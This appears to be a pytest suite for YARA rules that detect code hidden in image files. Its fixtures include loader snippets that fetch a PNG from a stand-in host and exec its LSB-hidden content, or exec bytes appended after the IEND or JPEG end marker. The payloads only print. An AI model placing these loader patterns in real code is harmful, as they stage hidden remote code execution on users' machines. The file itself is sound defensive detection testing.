"""rules/yara/stego/stego.yar: payloads hidden in images, and LSB extractors."""

from __future__ import annotations

import zlib

import pytest
from yara_builders import b64, bmp, elf, gif, ico, jpeg, lsb_embed, lsb_extract, params, pe, png, webp

# inert stand-ins for a hidden stage: they only print
CODE = b"\nimport base64\nexec(base64.b64decode('cHJpbnQoImhlbGxvIik='))\n# " + b"-" * 40 + b"\n"
SHELL = b"#!/bin/sh\necho demo > /dev/null\n" + b"#" * 80 + b"\n"
NOISE = bytes((i * 73 + 41) % 251 for i in range(200))   # plain trailing bytes, no markers

STEGANO_EXEC = """\
from stegano import lsb
import requests

def refresh_theme():
    blob = requests.get("https://example.invalid/theme.png").content
    open("theme.png", "wb").write(blob)
    exec(lsb.reveal("theme.png"))
"""

JUDYB_EXEC = """\
import judyb.lsb
_m = judyb.lsb.reveal(__file__.replace(".py", ".png"))
eval(compile(_m, "<img>", "exec"))
"""

PIL_DECODER_EXEC = """\
from PIL import Image

def _load(path):
    img = Image.open(path).convert("RGB")
    bits = ""
    for y in range(img.height):
        for x in range(img.width):
            r, g, b = img.getpixel((x, y))
            bits += str(r & 1) + str(g & 1) + str(b & 1)
    chars = [chr(int(bits[i:i + 8], 2)) for i in range(0, len(bits), 8)]
    exec("".join(chars).split("\\x00")[0])
"""

PIL_DECODER_NUMPY_EXEC = """\
import numpy as np
from PIL import Image
a = np.array(Image.open("logo.png")).flatten() % 2
data = bytes(int("".join(map(str, a[i:i + 8])), 2) for i in range(0, 4096, 8))
exec(data.rstrip(b"\\0"))
"""

TAIL_EXTRACTOR = """\
import os
_ASSET = os.path.join(os.path.dirname(__file__), "assets", "logo.png")
data = open(_ASSET, "rb").read()
exec(data[data.find(b"IEND") + 8:].decode())
"""

TAIL_EXTRACTOR_JPEG = """\
blob = open("splash.jpg", "rb").read()
stage = blob[blob.rfind(b'\\xff\\xd9') + 2:]
eval(compile(stage, "<s>", "exec"))
"""

PNG_WRITER = """\
import struct, zlib
def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
def save(path, idat):
    with open(path, "wb") as f:
        f.write(b"\\x89PNG\\r\\n\\x1a\\n" + chunk(b"IDAT", idat) + chunk(b"IEND", b""))
"""

PNG_CHECK = """\
ok = open("logo.png", "rb").read().endswith(b"IEND\\xaeB`\\x82")
limit = int(os.environ.get("LIMIT", "10"))
print(ok, limit)
"""

STEGANO_PRINT = """\
from stegano import lsb
secret = lsb.reveal("card.png")
print("hidden message:", secret)
"""

PIL_THRESHOLD = """\
from PIL import Image

def binarize(path):
    img = Image.open(path).convert("L")
    out = [1 if p & 1 else 0 for p in img.getdata()]
    return int("".join(map(str, out[:8])), 2)
"""

PIL_WITH_EVAL_CONFIG = """\
from PIL import Image
settings = {}
exec(open("settings.cfg").read(), settings)
img = Image.open(settings["path"])
"""

POSITIVE = {
    "image_trailing_data": [
        ("png-noise", lambda: png(trailer=NOISE)),
        ("jpeg-noise", lambda: jpeg(trailer=NOISE)),
        ("gif-noise", lambda: gif(trailer=NOISE)),
        ("bmp-noise", lambda: bmp(trailer=NOISE)),
        ("webp-noise", lambda: webp(trailer=NOISE)),
        ("ico-noise", lambda: ico(trailer=NOISE)),
    ],
    "image_appended_code_payload": [
        ("png-python", lambda: png(trailer=CODE)),
        ("png-shell", lambda: png(trailer=SHELL)),
        ("png-zlib", lambda: png(trailer=zlib.compress(b"print('hello')\n" + NOISE))),
        ("png-base64-python", lambda: png(trailer=b64(b"import os\nprint(os.getcwd())\n" * 4).encode())),
        ("png-pe", lambda: png(trailer=pe())),
        ("png-elf", lambda: png(trailer=elf())),
        ("jpeg-python", lambda: jpeg(trailer=CODE)),
        ("gif-python", lambda: gif(trailer=CODE)),
        ("bmp-python", lambda: bmp(trailer=CODE)),
        ("webp-python", lambda: webp(trailer=CODE)),
        ("ico-python", lambda: ico(trailer=CODE)),
    ],
    "image_embedded_code": [
        ("png-text-chunk", lambda: png(text=b"Comment\x00" + CODE)),
        ("jpeg-comment", lambda: jpeg(comment=CODE)),
        ("gif-comment", lambda: gif(comment=CODE)),
    ],
    "image_embedded_executable": [
        ("png-appended-pe", lambda: png(trailer=pe())),
        ("bmp-appended-elf", lambda: bmp(trailer=elf())),
        ("jpeg-comment-pe", lambda: jpeg(comment=pe()[:0x200])),
    ],
    "image_tail_extractor_exec": [
        ("png-iend", lambda: TAIL_EXTRACTOR),
        ("jpeg-eoi", lambda: TAIL_EXTRACTOR_JPEG),
    ],
    "stegano_lsb_reveal_exec": [
        ("stegano-exec", lambda: STEGANO_EXEC),
        ("judyb-eval-compile", lambda: JUDYB_EXEC),
    ],
    "pillow_lsb_decoder_exec": [
        ("getpixel-exec", lambda: PIL_DECODER_EXEC),
        ("numpy-exec", lambda: PIL_DECODER_NUMPY_EXEC),
    ],
}

BENIGN = {
    "image_trailing_data": [
        ("png", png),
        ("png-short-trailer", lambda: png(trailer=b"\x00" * 32)),
        ("jpeg", jpeg),
        ("gif", gif),
        ("bmp", bmp),
        ("webp", webp),
        ("ico", ico),
    ],
    "image_appended_code_payload": [
        ("png-noise", lambda: png(trailer=NOISE)),
        ("jpeg-noise", lambda: jpeg(trailer=NOISE)),
        ("png-short-code-trailer", lambda: png(trailer=b"exec(x)")),
        ("jpeg-python-before-eoi", lambda: jpeg(comment=b"import os")),
    ],
    "image_embedded_code": [
        ("png-software-text", lambda: png(text=b"Software\x00matplotlib version3.8.0, https://matplotlib.org/")),
        ("png-one-code-word", lambda: png(text=b"Comment\x00import os-independent colour profile")),
        ("jpeg", jpeg),
        ("text-file-with-code", lambda: CODE),
    ],
    "image_embedded_executable": [
        ("png-licence-text", lambda: png(text=b"Comment\x00This program is free software")),
        ("png-bare-magics", lambda: png(text=b"Comment\x00MZ and \x7fELF\x00\x00 are magic numbers")),
        ("pe-itself", pe),
    ],
    "image_tail_extractor_exec": [
        ("png-writer", lambda: PNG_WRITER),
        ("png-check-no-exec", lambda: PNG_CHECK),
        ("exec-without-marker", lambda: PIL_WITH_EVAL_CONFIG),
    ],
    "stegano_lsb_reveal_exec": [
        ("stegano-print", lambda: STEGANO_PRINT),
        ("exec-without-reveal", lambda: PIL_WITH_EVAL_CONFIG),
    ],
    "pillow_lsb_decoder_exec": [
        ("pil-threshold-no-exec", lambda: PIL_THRESHOLD),
        ("pil-exec-config-no-bits", lambda: PIL_WITH_EVAL_CONFIG),
    ],
}


@pytest.mark.parametrize(("rule", "build"), params(POSITIVE))
def test_fires(fired, rule, build):
    assert rule in fired(build())


@pytest.mark.parametrize(("rule", "build"), params(BENIGN))
def test_quiet(fired, rule, build):
    assert rule not in fired(build())


@pytest.mark.parametrize("build", [png, jpeg, gif, bmp, webp, ico], ids=lambda b: b.__name__)
def test_clean_images_fire_nothing(fired, build):
    assert fired(build()) == set()


def test_plain_trailing_bytes_are_only_low(fired):
    assert fired(png(trailer=NOISE)) == {"image_trailing_data"}


def test_lsb_payload_is_invisible_to_byte_rules_but_extractor_is_caught(fired):
    """Known limit: LSB-hidden code lives in compressed pixels, no byte rule can
    see it. The carrier is real (the bits decode back); the code side that
    extracts and runs it is what the pack catches."""
    carrier = lsb_embed(b"exec('print(1)')")
    assert lsb_extract(carrier) == b"exec('print(1)')"
    assert fired(carrier) == set()
    assert "pillow_lsb_decoder_exec" in fired(PIL_DECODER_EXEC)
